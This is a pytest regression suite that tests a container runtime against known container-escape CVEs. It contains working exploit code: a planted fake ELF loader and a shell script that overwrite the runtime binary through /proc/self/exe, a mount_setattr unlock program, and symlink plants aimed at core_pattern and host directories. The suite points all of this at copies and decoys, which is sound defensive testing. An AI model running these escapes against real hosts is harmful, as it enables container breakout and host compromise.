"""Regression tests for container-escape CVEs (user-needs.md section 3.3,
items 1-8). The rootfs is hostile; every test checks the host side is intact.
None of them writes to a sensitive host file even when the runtime is
vulnerable: they observe what got mounted or opened instead.

Every test runs on three sides (the `side` fixture): as root, and rootless
(husk run by an unprivileged user through setpriv, state under the user's
XDG_RUNTIME_DIR, a `husk spec --rootless` bundle whose rootfs the user owns)
with the single mapping of the user and with the full subordinate mapping.
The host objects a test watches (directories, decoy files) belong to whom the
runtime could write as: root; the user; under the full mapping a subordinate
id (container uid 1000: another container's data), over which the runtime in
its user namespace holds CAP_DAC_OVERRIDE."""
import hashlib
import os
import re
import shutil
import stat
import struct
import subprocess
import time
import threading

import pytest

from conftest import Runtime, is_husk, mounts_under
from rootless_tools import AsUser, UserRuntime, cleanup, subid_entries, user_bundle, users  # noqa: F401
from test_console import ConsoleServer, read_all


@pytest.fixture(params=["openat2", "fallback-walk"], autouse=True)
def resolver(request, monkeypatch):
    """Every escape test runs twice: with openat2(RESOLVE_IN_ROOT) and with the
    user-space fallback walk husk uses where openat2 is unavailable."""
    if request.param == "fallback-walk":
        if not is_husk():
            pytest.skip("husk's fallback resolver")
        monkeypatch.setenv("HUSK_FAULT", "safepath:no-openat2")
    return request.param


class Side:
    """Who runs the runtime: rt and bundle for the test, and the host ids
    (uid, gid) that the host objects the test watches belong to."""

    def __init__(self, name, rt, bundle, ids, user=None):
        self.name, self.rt, self.bundle, self.ids, self.user = name, rt, bundle, ids, user

    def own(self, path, ids=None):
        """Give path (and what is below it) to ids (default: self.ids)."""
        ids = ids or self.ids
        if ids != (0, 0):
            subprocess.run(["chown", "-R", "-h", "%d:%d" % ids, path], check=True)
        return path

    def runtime_at(self, path):
        """The same side, running another binary."""
        if self.user is None:
            return Runtime(path, self.rt.root, self.rt.workdir)
        return UserRuntime(self.user, path)


SIDES = ["root", pytest.param("rootless", marks=pytest.mark.husk_only),
         pytest.param("rootless-full", marks=pytest.mark.husk_only)]
every_side = pytest.mark.parametrize("side", SIDES, indirect=True)


def subordinate(pw, n):
    """Host (uid, gid) of container id n under the full mapping."""
    return tuple(subid_entries(f, pw)[0][0] + n - 1 for f in ("/etc/subuid", "/etc/subgid"))


@pytest.fixture
def side(request, ctx, runtime):
    if request.param == "root":
        yield Side("root", ctx.rt, ctx.new_bundle(), (0, 0))
        return
    pw = request.getfixturevalue("users")[0]
    u = AsUser(ctx, pw, runtime, "u")
    u.ids = ctx.ids  # every id the test makes is deleted as the user, then checked
    full = request.param == "rootless-full"
    ids = subordinate(pw, 1000) if full else (pw.pw_uid, pw.pw_gid)
    yield Side(request.param, UserRuntime(u), user_bundle(ctx, u, full=full), ids, user=u)
    cleanup(u)


@pytest.fixture
def rt(side):
    return side.rt


@pytest.fixture
def bundle(side):
    return side.bundle


def sha256(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def host_dir(ctx, side, name="hostdir"):
    """A host directory the runtime on this side could write to (see above)."""
    d = os.path.join(ctx.dir, name)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "keep"), "w") as f:
        f.write("host")
    return side.own(d)


def snapshot(d):
    res = []
    for root, dirs, files in os.walk(d):
        for n in dirs + files:
            p = os.path.join(root, n)
            st = os.lstat(p)
            res.append((p, stat.S_IFMT(st.st_mode), st.st_size))
    return sorted(res)


def replace_with_symlink(path, target):
    if os.path.islink(path) or os.path.isfile(path):
        os.unlink(path)
    elif os.path.isdir(path):
        shutil.rmtree(path)
    os.symlink(target, path)


def drop_dev_tmpfs(bundle):
    """Without a tmpfs on /dev the image's own /dev is what the runtime works in."""
    bundle.config["mounts"] = [m for m in bundle.config["mounts"] if m["destination"] != "/dev"]


# ---------------------------------------------------------------------------
# 1. CVE-2019-5736: the container execs the runtime binary through
# #!/proc/self/exe with an image-provided ELF interpreter, keeps an fd to it,
# and writes through /proc/self/fd/N (after a chmod u+w, which its owner may
# do) once the runtime has exited; it prints what it holds (EXE: path), retries
# while the binary is busy and reports why the write failed (NOWRITE: error).

FAKE_LDSO = r"""
static long sys(long n, long a, long b, long c)
{
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}
static char *argv[] = {"sh", "-c",
  "echo \"EXE: $(readlink /proc/self/fd/3)\"; for i in $(seq 100); do chmod u+w /proc/self/fd/3 2>/dev/null;"
  " if err=$( { echo pwned >> /proc/self/fd/3; } 2>&1 ); then echo WROTE; exit 0; fi;"
  " case $err in *busy*) sleep 0.05;; *) echo \"NOWRITE: $err\"; exit 0;; esac;"
  " done; echo 'NOWRITE: busy'", 0};
static char *envp[] = {"PATH=/bin", 0};
void _start(void)
{
  long fd = sys(2, (long)"/proc/self/exe", 0, 0); /* open(O_RDONLY): whatever we were exec'd as */
  if (fd >= 0 && fd != 3)
    sys(33, fd, 3, 0); /* dup2 */
  sys(59, (long)"/bin/sh", (long)argv, (long)envp);
  sys(60, 1, 0, 0);
}
"""


def plant_evil(ctx, bundle):
    """/evil is `#!/proc/self/exe`; the ELF interpreter the runtime's binary
    asks for is ours: it keeps /proc/self/exe open as fd 3 and writes to it."""
    src = os.path.join(ctx.dir, "ldso.c")
    with open(src, "w") as f:
        f.write(FAKE_LDSO)
    os.makedirs(bundle.rootfs_file("/lib64"), exist_ok=True)
    subprocess.run(["gcc", "-O1", "-static", "-no-pie", "-nostdlib", "-fno-stack-protector",
                    "-o", bundle.rootfs_file("/lib64/ld-linux-x86-64.so.2"), src], check=True)
    with open(bundle.rootfs_file("/evil"), "w") as f:
        f.write("#!/proc/self/exe\n")
    os.chmod(bundle.rootfs_file("/evil"), 0o755)


def has_elf_interpreter(path):
    """Whether an x86-64 ELF asks for a program interpreter (PT_INTERP)."""
    with open(path, "rb") as f:
        hdr = f.read(64)
        if hdr[:4] != b"\x7fELF" or hdr[4] != 2:
            return True
        phoff = int.from_bytes(hdr[32:40], "little")
        phentsize = int.from_bytes(hdr[54:56], "little")
        phnum = int.from_bytes(hdr[56:58], "little")
        f.seek(phoff)
        table = f.read(phentsize * phnum)
    return any(int.from_bytes(table[i * phentsize:i * phentsize + 4], "little") == 3
               for i in range(phnum))


# A static runtime has no ELF interpreter to plant. The runtime re-executed
# through #!/proc/self/exe is made to block instead (its --log is a FIFO
# nobody reads yet); a second process in the container opens /proc/PID/exe of
# it, lets it finish, then writes to the binary through that fd.
STATIC_ATTACK = r"""
p=; i=0
while [ -z "$p" ] && [ $i -lt 400 ]; do
  for d in /proc/[0-9]*; do
    if grep -q -- "--log=/fifo_$1" $d/cmdline 2>/dev/null; then p=${d#/proc/}; fi
  done
  i=$((i+1)); sleep 0.05
done
[ -n "$p" ] || { echo NOTFOUND; exit 0; }
exec 3</proc/$p/exe || { echo NOOPEN; exit 0; }
echo "EXE: $(readlink /proc/self/fd/3)"
[ -z "$2" ] || "$2"
cat /fifo_$1 >/dev/null
for i in $(seq 100); do
  chmod u+w /proc/self/fd/3 2>/dev/null
  if err=$( { echo pwned >> /proc/self/fd/3; } 2>&1 ); then echo WROTE; exit 0; fi
  case $err in *busy*) sleep 0.05;; *) echo "NOWRITE: $err"; exit 0;; esac
done
echo 'NOWRITE: busy'
"""


def plant_blocking_evil(bundle):
    # the image's: owned as the rootfs is, writable by every container uid
    fifo = bundle.rootfs_file("/fifo_" + bundle.marker)
    os.mkfifo(fifo)
    os.chmod(fifo, 0o666)
    st = os.stat(bundle.rootfs)
    os.chown(fifo, st.st_uid, st.st_gid)
    with open(bundle.rootfs_file("/evil"), "w") as f:
        f.write("#!/proc/self/exe --log=/fifo_%s\n" % bundle.marker)
    os.chmod(bundle.rootfs_file("/evil"), 0o755)


def wait_output(path, timeout=20):
    deadline, out = time.time() + timeout, ""
    while time.time() < deadline and not any(w in out for w in ("WROTE", "NOWRITE", "NOTFOUND",
                                                                 "NOOPEN")):
        time.sleep(0.1)
        with open(path) as f:
            out = f.read()
    return out


def attack_static_runtime(ctx, rt, bundle, cid, via, writer=""):
    plant_blocking_evil(bundle)
    outp = os.path.join(ctx.dir, "attack.out")
    if via == "run":
        # no pid namespace: the attacker must outlive the init it attacks
        bundle.config["linux"]["namespaces"] = [
            n for n in bundle.config["linux"]["namespaces"] if n["type"] != "pid"]
        if any(n["type"] == "user" for n in bundle.config["linux"]["namespaces"]):
            # an unprivileged user may mount procfs only for a pid namespace
            # it owns: the host's /proc instead (masked and read-only paths
            # still apply to it)
            for m in bundle.config["mounts"]:
                if m["destination"] == "/proc":
                    m.update(type="bind", source="/proc", options=["rbind", "nosuid", "noexec", "nodev"])
        bundle.process["args"] = ["/evil", bundle.marker]
        assert rt.create(bundle, cid).rc == 0
        assert rt.start(cid).rc == 0
    else:
        bundle.sleep_forever()
        assert rt.create(bundle, cid).rc == 0
        assert rt.start(cid).rc == 0
        assert rt("exec", "-d", cid, "/evil", bundle.marker).rc == 0
    assert rt("exec", "-d", cid, "sh", "-c", STATIC_ATTACK, "attack", bundle.marker, writer,
              out_path=outp, err_path=outp).rc == 0
    return wait_output(outp)


# Who owns the runtime's binary, per side. Root: the guard re-executes from a
# read-only detached mount. Rootless, a binary owned by root: nothing to
# protect, the container cannot write it. Owned by the user (also with mode
# 0555: its owner may chmod it) or, under the full mapping, by a subordinate
# id the container's process runs as, or root's with an ACL letting that id
# write: writable from the container, so the guard re-executes from a
# read-only detached mount made by a child in a user namespace of its own;
# "user-memfd": the same where user namespaces are refused to that child
# (HUSK_FAULT=exe-guard:no-userns), from a sealed memfd copy.
EXE_OWNERS = [("root", "root"),
              pytest.param("rootless", "root", marks=pytest.mark.husk_only),
              pytest.param("rootless", "user", marks=pytest.mark.husk_only),
              pytest.param("rootless", "user-0555", marks=pytest.mark.husk_only),
              pytest.param("rootless", "user-memfd", marks=pytest.mark.husk_only),
              pytest.param("rootless-full", "user", marks=pytest.mark.husk_only),
              pytest.param("rootless-full", "subordinate", marks=pytest.mark.husk_only),
              pytest.param("rootless-full", "subordinate-acl", marks=pytest.mark.husk_only)]
# What the container holds under husk (the link's text, a regex) and why its
# write fails, per (side, owner): the binary on a read-only detached mount (its
# root: "/"); the binary itself, root's; husk's sealed memfd copy (its seals).
HELD = {"root": ("/", "Read-only file system"),
        "rootless-root": ("/.*/runtime-copy", "Permission denied"),
        "rootless-user": ("/", "Read-only file system"),
        # its chmod u+w failed (EROFS, silenced): the mode refuses the write
        "rootless-user-0555": ("/", "Permission denied"),
        "rootless-memfd": (r"/memfd:husk \(deleted\)", "Operation not permitted"),
        "rootless-subordinate": ("/", "Read-only file system")}


def allow_write(path, uid):
    """A POSIX access ACL on path: user:uid:rwx (the xattr's binary form:
    version 2, then (tag, perm, id) entries sorted by tag)."""
    none = 0xFFFFFFFF
    entries = [(0x01, 7, none), (0x02, 7, uid), (0x04, 5, none), (0x10, 7, none), (0x20, 5, none)]
    blob = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *e) for e in entries)
    try:
        os.setxattr(path, "system.posix_acl_access", blob)
    except OSError as ex:
        pytest.skip("POSIX ACLs on %s: %s" % (path, ex))


@pytest.mark.skipif(shutil.which("gcc") is None or os.uname().machine != "x86_64", reason="needs gcc on x86_64")
@pytest.mark.parametrize("via", ["run", "exec"])
@pytest.mark.parametrize("side,owner", EXE_OWNERS, indirect=["side"])
def test_cve_2019_5736_proc_self_exe(ctx, runtime, side, bundle, cid, via, owner, monkeypatch):
    # a private copy of the runtime: a vulnerable one must not damage the real one
    exe = os.path.join(ctx.dir, "runtime-copy")
    shutil.copy2(runtime, exe)
    if owner in ("user", "user-0555", "user-memfd"):
        side.own(exe, (side.user.pw.pw_uid, side.user.pw.pw_gid))
        os.chmod(exe, 0o555 if owner == "user-0555" else 0o755)
        if owner == "user-memfd":
            faults = [f for f in os.environ.get("HUSK_FAULT", "").split(",") if f]
            monkeypatch.setenv("HUSK_FAULT", ",".join(faults + ["exe-guard:no-userns"]))
    elif owner == "subordinate":
        side.own(exe, side.ids)  # container uid 1000, which the process runs as
        bundle.process["user"] = {"uid": 1000, "gid": 1000}
    elif owner == "subordinate-acl":
        allow_write(exe, side.ids[0])
        bundle.process["user"] = {"uid": 1000, "gid": 1000}
    before = sha256(exe)
    rt = side.runtime_at(exe)
    out = ""
    if not has_elf_interpreter(exe):
        out = attack_static_runtime(ctx, rt, bundle, cid, via)
    elif via == "run":
        plant_evil(ctx, bundle)
        bundle.process["args"] = ["/evil", bundle.marker]
        r = rt.create(bundle, cid)
        if r.rc == 0:
            assert rt.start(cid).rc == 0
            rt.wait_status(cid, "stopped", timeout=15)
        out = bundle.stdout(cid)
    else:
        plant_evil(ctx, bundle)
        bundle.sleep_forever()
        assert rt.create(bundle, cid).rc == 0
        assert rt.start(cid).rc == 0
        # detached: the exec'd process outlives the runtime, whose binary is
        # then no longer busy (ETXTBSY would hide the bug otherwise)
        outp = os.path.join(ctx.dir, "exec.out")
        assert rt("exec", "-d", cid, "/evil", bundle.marker, out_path=outp, err_path=outp).rc == 0
        deadline = time.time() + 20
        while time.time() < deadline and "WROTE" not in out and "NOWRITE" not in out:
            time.sleep(0.1)
            with open(outp) as f:
                out = f.read()
    rt.delete(cid, "--force")
    assert sha256(exe) == before, "the runtime binary was overwritten from the container: %s" % out
    assert "WROTE" not in out
    assert "NOWRITE" in out, out  # the attack ran and failed (not: never started)
    if is_husk():
        held = {"user-memfd": "memfd", "user-0555": "user-0555"}.get(owner, owner.split("-")[0])
        exe, error = HELD["root" if side.name == "root" else "rootless-" + held]
        assert "EXE: " in out and re.fullmatch(exe, out.split("EXE: ")[1].splitlines()[0]), out
        assert "NOWRITE: " in out and error in out.split("NOWRITE: ")[1], out


# The same attack by a container that may create a user namespace (no
# seccomp filter forbids it): inside one it holds CAP_SYS_ADMIN over a mount
# namespace of its own, which mount_setattr(2) takes as enough to clear
# MOUNT_ATTR_RDONLY on a *detached* mount it holds an fd to, as long as that
# mount's anonymous namespace lives (kernel 6.18, tried outside husk: the
# flag is cleared and the file opens for writing). It lives while some
# process keeps the open_tree() fd; husk's is O_CLOEXEC and gone at the
# execveat, so the clearing must fail (EINVAL: the mount is in no namespace
# any more) before and after the runtime exits.
UNLOCK = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void)
{
  struct mount_attr a = {.attr_clr = MOUNT_ATTR_RDONLY};
  const char *how = "no user namespace";
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
    how = syscall(SYS_mount_setattr, 3, "", AT_EMPTY_PATH, &a, sizeof a) == 0 ? "cleared"
                                                                               : strerror(errno);
  printf("UNLOCK: %s\n", how);
  return 0;
}
"""


@pytest.mark.skipif(shutil.which("gcc") is None or os.uname().machine != "x86_64", reason="needs gcc on x86_64")
@pytest.mark.parametrize("via", ["run", "exec"])
def test_cve_2019_5736_remount_in_user_namespace(ctx, runtime, via):
    if has_elf_interpreter(runtime):
        pytest.skip("the attack below is the static runtime's (see attack_static_runtime)")
    exe = os.path.join(ctx.dir, "runtime-copy")
    shutil.copy2(runtime, exe)
    before = sha256(exe)
    bundle = ctx.new_bundle()
    src = os.path.join(ctx.dir, "unlock.c")
    with open(src, "w") as f:
        f.write(UNLOCK)
    subprocess.run(["gcc", "-O1", "-static", "-o", bundle.rootfs_file("/unlock"), src], check=True)
    rt = Runtime(exe, ctx.rt.root, ctx.rt.workdir)
    cid = "cve5736ns-" + via
    out = attack_static_runtime(ctx, rt, bundle, cid, via, writer="/unlock")
    rt.delete(cid, "--force")
    assert sha256(exe) == before, "the runtime binary was overwritten from the container: %s" % out
    assert "UNLOCK: " in out and "NOWRITE: " in out, out
    if is_husk():
        assert "UNLOCK: cleared" not in out, out
        assert "Read-only file system" in out.split("NOWRITE: ")[1], out


# ---------------------------------------------------------------------------
# 2. CVE-2024-21626: process.cwd = /proc/self/fd/N with host directory fds
# open in the caller.

@every_side
@pytest.mark.parametrize("n", [3, 4, 5, 7, 8, 12, 20, 40])
def test_cve_2024_21626_cwd_leaked_fd(ctx, side, rt, bundle, cid, n):
    d = host_dir(ctx, side)
    with open(os.path.join(d, "HOST_SECRET_%s" % bundle.marker), "w") as f:
        f.write("x")
    fds = [os.open(d, os.O_RDONLY | os.O_DIRECTORY) for _ in range(40)]
    fds += [os.open("/", os.O_PATH) for _ in range(4)]
    try:
        bundle.process["cwd"] = "/proc/self/fd/%d" % n
        bundle.cmd("pwd; ls; ls ..")
        r = rt.run(bundle, cid, pass_fds=fds)
    finally:
        for fd in fds:
            os.close(fd)
    assert "HOST_SECRET" not in r.out, r
    assert "keep" not in r.out.split(), r


@every_side
def test_cve_2024_21626_no_host_fd_reaches_container(ctx, side, rt, bundle, cid):
    d = host_dir(ctx, side)
    fds = [os.open(d, os.O_RDONLY | os.O_DIRECTORY) for _ in range(30)]
    try:
        bundle.cmd("for f in /proc/self/fd/*; do readlink $f; done; true")
        r = rt.run(bundle, cid, pass_fds=fds)
    finally:
        for fd in fds:
            os.close(fd)
    assert r.rc == 0, r
    assert d not in r.out, r


# ---------------------------------------------------------------------------
# 3. CVE-2025-31133: /dev/null in the image is a symlink to a procfs file;
# maskedPaths must still be masked by a real /dev/null (or setup fails).

@every_side
@pytest.mark.parametrize("target", ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/etc/passwd"])
def test_cve_2025_31133_devnull_symlink(ctx, side, rt, bundle, cid, target):
    drop_dev_tmpfs(bundle)
    os.makedirs(bundle.rootfs_file("/dev"), exist_ok=True)
    replace_with_symlink(bundle.rootfs_file("/dev/null"), target)
    bundle.linux["maskedPaths"] = ["/proc/timer_list", "/proc/kcore"]
    bundle.cmd("stat -Lc '%F %t:%T' /proc/timer_list; wc -c < /proc/timer_list")
    r = rt.run(bundle, cid)
    if r.rc != 0:  # failing closed is fine
        return
    lines = r.out.strip().splitlines()
    assert lines[0] == "character special file 1:3", r
    assert lines[1].strip() == "0", r


# ---------------------------------------------------------------------------
# 4. CVE-2025-52565: /dev/console and /dev/pts/ptmx (and /dev/ptmx) planted as
# symlinks in the image; with a terminal, /dev/console must be the real pty.

@every_side
@pytest.mark.parametrize("readonly", [False, True], ids=["rw-root", "ro-root"])
def test_cve_2025_52565_console_and_ptmx_symlinks(ctx, side, rt, bundle, cid, readonly):
    drop_dev_tmpfs(bundle)
    # a read-only root (spec --rootless's default): the planted link must be
    # replaced before the root is made read-only
    bundle.config["root"]["readonly"] = readonly
    core = "/proc/sys/kernel/core_pattern"
    with open(core) as f:
        core_before = f.read()
    os.makedirs(bundle.rootfs_file("/dev/pts"), exist_ok=True)
    for p in ("/dev/console", "/dev/ptmx", "/dev/pts/ptmx"):
        replace_with_symlink(bundle.rootfs_file(p), core)
    bundle.process["terminal"] = True
    bundle.cmd("stat -c '%F %t' /dev/console; tty; readlink /dev/ptmx; head -c 0 /dev/console; echo done")
    sock = os.path.join(ctx.dir, "c.sock")
    srv = ConsoleServer(sock)
    os.chmod(sock, 0o777)  # rootless: the user connects to it
    got = {}

    def recv():
        try:
            got["name"], got["fd"] = srv.receive()
        except Exception as ex:  # noqa: BLE001 - reported below
            got["err"] = ex
    t = threading.Thread(target=recv)
    t.start()
    try:
        r = rt.create(bundle, cid, "--console-socket", sock)
        t.join(15)
        if r.rc != 0 and not is_husk():
            return  # failing closed is fine (husk replaces the links)
        assert r.rc == 0, r
        assert "fd" in got, got
        assert rt.start(cid).rc == 0
        out = read_all(got["fd"])
        os.close(got["fd"])
    finally:
        srv.close()
    lines = [l.strip() for l in out.splitlines() if l.strip()]
    assert lines[0] == "character special file 88", out  # 136: a pty slave
    assert lines[1].startswith("/dev/pts/"), out
    assert lines[-1] == "done", out
    with open(core) as f:
        assert f.read() == core_before


# ---------------------------------------------------------------------------
# 6. CVE-2026-41579 / CVE-2026-47766: /dev in the image is a symlink to a host
# directory, absolute or relative; nothing may be created there.

def spare_device(side):
    """A device for linux.devices that is not a default one. Root makes it with
    mknod; rootless binds the host's node of the same path, so it must exist:
    /dev/fuse where the host has it, else /dev/kmsg (made by every kernel)."""
    if side.user is None:
        return {"path": "/dev/husk-fuse", "type": "c", "major": 10, "minor": 229, "fileMode": 0o666}
    path = "/dev/fuse" if os.path.exists("/dev/fuse") else "/dev/kmsg"
    rdev = os.stat(path).st_rdev
    return {"path": path, "type": "c", "major": os.major(rdev), "minor": os.minor(rdev),
            "fileMode": 0o666}


@every_side
@pytest.mark.parametrize("kind", ["absolute", "relative"])
@pytest.mark.parametrize("with_tmpfs", [True, False])
def test_cve_2026_41579_dev_symlink(ctx, side, rt, bundle, cid, kind, with_tmpfs):
    d = host_dir(ctx, side)
    before = snapshot(d)
    target = d if kind == "absolute" else "../" * 12 + d.lstrip("/")
    replace_with_symlink(bundle.rootfs_file("/dev"), target)
    if not with_tmpfs:
        drop_dev_tmpfs(bundle)
    bundle.config.setdefault("linux", {})["devices"] = [spare_device(side)]
    bundle.cmd("ls /dev")
    r = rt.run(bundle, cid)
    rt.delete(cid, "--force")
    assert snapshot(d) == before, r
    assert not mounts_under(d)


# ---------------------------------------------------------------------------
# 7. CVE-2021-30465 / CVE-2024-45310: mount destinations through symlinks
# that point outside the rootfs, and destinations with "..".

@every_side
@pytest.mark.parametrize("how", ["abs-symlink", "rel-symlink", "dotdot", "symlink-parent"])
def test_cve_2021_30465_mount_destination_escape(ctx, side, rt, bundle, cid, how):
    d = host_dir(ctx, side)
    before = snapshot(d)
    if how == "abs-symlink":
        os.symlink(d, bundle.rootfs_file("/mnt/escape"))
        dest = "/mnt/escape"
    elif how == "rel-symlink":
        os.symlink("../" * 12 + d.lstrip("/"), bundle.rootfs_file("/mnt/escape"))
        dest = "/mnt/escape/sub"
    elif how == "dotdot":
        dest = "/../../../.." + d + "/made"
    else:
        os.symlink(os.path.dirname(d), bundle.rootfs_file("/mnt/up"))
        dest = "/mnt/up/" + os.path.basename(d) + "/newdir"
    bundle.add_mount(dest, "tmpfs", "tmpfs", ["size=1m"])
    bundle.cmd("touch %s/inside-file 2>/dev/null; echo ok" % dest)
    r = rt.run(bundle, cid)
    rt.delete(cid, "--force")
    assert not mounts_under(d), r
    assert snapshot(d) == before, r


# ---------------------------------------------------------------------------
# 8. CVE-2019-16884 / CVE-2019-19921: /proc in the image is a symlink or a
# regular file; the proc mount must land on a real directory in the rootfs
# (or fail), and masking must still apply.

@every_side
@pytest.mark.parametrize("kind", ["symlink-host", "symlink-inside", "file"])
def test_cve_2019_16884_proc_not_a_directory(ctx, side, rt, bundle, cid, kind):
    d = host_dir(ctx, side)
    before = snapshot(d)
    p = bundle.rootfs_file("/proc")
    if kind == "symlink-host":
        replace_with_symlink(p, d)
    elif kind == "symlink-inside":
        os.makedirs(bundle.rootfs_file("/fakeproc/sys/kernel"), exist_ok=True)
        replace_with_symlink(p, "/fakeproc")
    else:
        os.rmdir(p)
        with open(p, "w") as f:
            f.write("not a dir")
    bundle.linux["maskedPaths"] = ["/proc/timer_list"]
    bundle.cmd("stat -fc %T /proc; stat -c '%t:%T' /proc/timer_list; readlink /proc; true")
    r = rt.run(bundle, cid)
    rt.delete(cid, "--force")
    assert not mounts_under(d), r
    assert snapshot(d) == before, r
    if r.rc != 0:  # failing closed is right (runc refuses too)
        if is_husk():
            assert "must be mounted on an ordinary directory" in r.err or "Not a directory" in r.err, r
        return
    lines = r.out.split()
    assert lines == ["proc", "1:3"], r  # a real /proc, not followed through the image's link


# ---------------------------------------------------------------------------
# 5. CVE-2025-52881: procfs writes (sysctl, oom_score_adj, LSM attributes)
# redirected by mounts the config or the image controls. husk writes through a
# private procfs instance, so the write reaches the kernel, never the file or
# tmpfs mounted over /proc in the container.

def host_file(ctx, side, name, content):
    """A decoy the runtime on this side could write (see the top)."""
    p = os.path.join(ctx.dir, name)
    with open(p, "w") as f:
        f.write(content)
    return side.own(p)


def ns_read(pid, ns, path):
    return subprocess.run(["nsenter", "-t", str(pid), "--" + ns, "cat", path],
                          capture_output=True, text=True, check=True).stdout.strip()


@every_side
@pytest.mark.parametrize("cover", ["bind-file", "tmpfs-dir"])
def test_cve_2025_52881_sysctl_not_redirected(ctx, side, rt, bundle, cid, cover):
    target = host_file(ctx, side, "decoy", "0\n")
    if cover == "bind-file":
        bundle.add_mount("/proc/sys/kernel/shm_rmid_forced", "bind", target, ["bind", "rw"])
    else:
        bundle.add_mount("/proc/sys", "tmpfs", "tmpfs", ["size=1m"])
    bundle.linux["sysctl"] = {"kernel.shm_rmid_forced": "1"}
    bundle.sleep_forever()
    r = rt.create(bundle, cid)
    assert r.rc == 0, r
    pid = rt.state_json(cid)["pid"]
    try:
        assert ns_read(pid, "ipc", "/proc/sys/kernel/shm_rmid_forced") == "1"
        with open(target) as f:
            assert f.read() == "0\n", "the sysctl write went to the file mounted over /proc/sys"
    finally:
        rt.delete(cid, "--force")


@every_side
def test_cve_2025_52881_oom_score_adj_not_redirected(ctx, side, rt, bundle, cid):
    target = host_file(ctx, side, "decoy", "0\n")
    bundle.add_mount("/proc/self/oom_score_adj", "bind", target, ["bind", "rw"])
    bundle.process["oomScoreAdj"] = 123
    bundle.sleep_forever()
    r = rt.create(bundle, cid)
    if r.rc != 0:  # failing closed is acceptable; writing the decoy is not
        with open(target) as f:
            assert f.read() == "0\n", r
        return
    pid = rt.state_json(cid)["pid"]
    try:
        with open("/proc/%d/oom_score_adj" % pid) as f:
            assert f.read().strip() == "123"
        with open(target) as f:
            assert f.read() == "0\n", "oom_score_adj went to the file mounted over /proc"
    finally:
        rt.delete(cid, "--force")
